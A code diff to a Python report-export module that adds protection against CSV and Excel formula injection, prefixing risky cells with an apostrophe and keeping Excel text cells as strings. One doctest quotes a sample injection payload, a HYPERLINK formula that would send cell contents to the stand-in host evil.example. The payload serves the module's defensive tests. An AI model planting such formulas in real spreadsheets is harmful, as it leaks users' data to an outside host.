@@ -1,7 +1,8 @@
 """Reports and tables as files: CSV, Excel and JSON, exactly as filtered.
 
 The CLI's `export` and the dashboard's download buttons both go through here, so a file
-downloaded from a page and one exported on the command line have the same shape.
+downloaded from a page and one exported on the command line have the same shape, and the
+same protection against formula injection (`neutralise_formula`).
 """
 
 from __future__ import annotations
@@ -10,6 +11,7 @@ import datetime as dt
 import io
 import json
 import math
+import re
 from decimal import Decimal
 
 import pandas as pd
@@ -20,6 +22,14 @@ from klynge.reports.fields import FIELD_NAMES
 
 EXPORT_COLUMNS: tuple[str, ...] = (*FIELD_NAMES, "level", "region", "sector")
 FORMATS = ("csv", "xlsx", "json")
+
+# What a spreadsheet may read as the start of a formula (OWASP, "CSV Injection"): = + - @,
+# a tab or a carriage return; the same after leading whitespace, in case a spreadsheet
+# skips it; and the full-width forms, which a spreadsheet set up for East Asian input may
+# take for the ASCII ones. A text marked needlessly gains an apostrophe; one missed can leak.
+_FORMULA_START = re.compile(r"[\t\r]|\s*[=+\-@\uff1d\uff0b\uff0d\uff20]")
+# OWASP's advice: a leading apostrophe, which spreadsheets take to mean "this is text".
+TEXT_MARK = "'"
 
 
 def export_reports(engine: Engine, flt: queries.Filter) -> pd.DataFrame:
@@ -42,6 +52,59 @@ def _cell(value):
     return value
 
 
+def _reads_as_formula(text: str) -> bool:
+    # Apostrophes already in front are looked through, so that a text which starts with
+    # one gets a mark of its own and `restore_formula_text` can tell the two apart.
+    return _FORMULA_START.match(text.lstrip(TEXT_MARK)) is not None
+
+
+def neutralise_formula(text: str) -> str:
+    r"""`text` as a spreadsheet cell that is never a formula: with a leading apostrophe
+    when a spreadsheet could read it as one, otherwise as it is.
+
+    >>> print(neutralise_formula('=HYPERLINK("http://evil.example/?x="&A1,"click")'))
+    '=HYPERLINK("http://evil.example/?x="&A1,"click")
+    >>> [neutralise_formula(text) for text in ("+47 22 00 00 00", "- punkt", "@SUM(A1)", "\tx", "\rx", " =1", "＝1")]
+    ["'+47 22 00 00 00", "'- punkt", "'@SUM(A1)", "'\tx", "'\rx", "' =1", "'＝1"]
+    >>> [neutralise_formula(text) for text in ("Arena Kystmat", "e-post", "", "'sitat'")]
+    ['Arena Kystmat', 'e-post', '', "'sitat'"]
+
+    A text that already starts with apostrophes before such a character gets one more, so
+    that `restore_formula_text` can tell the mark from the text and undo exactly this:
+
+    >>> neutralise_formula("'=1")
+    "''=1"
+    >>> texts = ("=1", "'=1", "''=1", "'x", "x", "- a", "")
+    >>> [restore_formula_text(neutralise_formula(text)) for text in texts] == list(texts)
+    True
+
+    The trade-off: the mark is part of the text in the file. A story that starts with "- "
+    (a bullet) or a phone number that starts with "+" is read back with the apostrophe by a
+    reader that does not undo it, and some spreadsheets show it. Marking only what a
+    spreadsheet would really parse as a formula would spare those texts, but that depends
+    on the spreadsheet, its version and its locale; OWASP's plain rule does not.
+    """
+    return TEXT_MARK + text if _reads_as_formula(text) else text
+
+
+def restore_formula_text(text: str) -> str:
+    """The text `neutralise_formula` was given, from what it gave back: for a reader of the
+    files written here.
+
+    >>> restore_formula_text("'=1"), restore_formula_text("''=1"), restore_formula_text("'sitat'")
+    ('=1', "'=1", "'sitat'")
+    """
+    if text.startswith(TEXT_MARK) and _reads_as_formula(text[len(TEXT_MARK):]):
+        return text[len(TEXT_MARK):]
+    return text
+
+
+def _sheet_cell(value):
+    """A value as it goes into a CSV or Excel file: `_cell`, and text never a formula."""
+    value = _cell(value)
+    return neutralise_formula(value) if isinstance(value, str) else value
+
+
 def _json_value(value):
     if isinstance(value, (list, tuple)):
         return list(value)
@@ -59,16 +122,52 @@ def _json_value(value):
 
 
 def write_frame(frame: pd.DataFrame, fmt: str) -> bytes:
-    """`frame` as the bytes of a CSV (UTF-8), Excel or JSON (an array of objects) file."""
+    """`frame` as the bytes of a CSV (UTF-8), Excel or JSON (an array of objects) file.
+
+    In CSV and Excel, every text (headers included) that a spreadsheet could read as a
+    formula has a leading apostrophe (`neutralise_formula`). In Excel every text cell is
+    stored as a string, never as a formula, and a marked one also has Excel's own mark of
+    text (quotePrefix).
+    Numbers, dates and gaps are never marked. JSON is left as it is: it is data for
+    programs, not a spreadsheet, and a program reads "=1" as the text it is.
+    """
     if fmt == "json":
         records = [{name: _json_value(value) for name, value in zip(frame.columns, row)}
                    for row in frame.itertuples(index=False, name=None)]
         return (json.dumps(records, ensure_ascii=False, indent=1) + "\n").encode("utf-8")
-    flat = frame.apply(lambda column: column.map(_cell)) if len(frame) else frame
+    flat = frame.apply(lambda column: column.map(_sheet_cell)) if len(frame) else frame
+    flat = flat.rename(columns=lambda name: neutralise_formula(name) if isinstance(name, str) else name)
     if fmt == "csv":
-        return flat.to_csv(index=False, lineterminator="\n").encode("utf-8")
+        return _csv_text(flat).encode("utf-8")
     if fmt == "xlsx":
         buffer = io.BytesIO()
-        flat.to_excel(buffer, index=False, engine="openpyxl")
+        with pd.ExcelWriter(buffer, engine="openpyxl") as writer:
+            flat.to_excel(writer, index=False)
+            _text_as_text(writer.book.worksheets[0])
         return buffer.getvalue()
     raise ValueError(f"unknown format {fmt!r}; use one of {', '.join(FORMATS)}")
+
+
+def _csv_text(flat: pd.DataFrame) -> str:
+    r"""`flat` as CSV text, rows ending in "\n", every field that holds a line break quoted.
+
+    Python's csv module quotes a field for a line break only if the break is in its line
+    terminator: with "\n" it would leave a lone "\r" bare, a spreadsheet would end the row
+    there, and "x\r=1+1" would begin a cell with a formula. Written with "\r\n", every such
+    field is quoted; the rows' own "\r\n" are then the only ones outside quotes (a quote in
+    a field is doubled, so splitting on quotes alternates outside and inside)."""
+    parts = flat.to_csv(index=False, lineterminator="\r\n").split('"')
+    parts[::2] = [part.replace("\r\n", "\n") for part in parts[::2]]
+    return '"'.join(parts)
+
+
+def _text_as_text(sheet) -> None:
+    """Every text cell of an openpyxl `sheet` stored as a string, never as a formula (openpyxl
+    makes one of any text that starts with "="); a marked one also gets Excel's quotePrefix,
+    so that editing it in Excel keeps it text."""
+    for row in sheet.iter_rows():
+        for cell in row:
+            if isinstance(cell.value, str):
+                cell.data_type = "s"
+                if restore_formula_text(cell.value) != cell.value:  # marked by neutralise_formula
+                    cell.quotePrefix = True
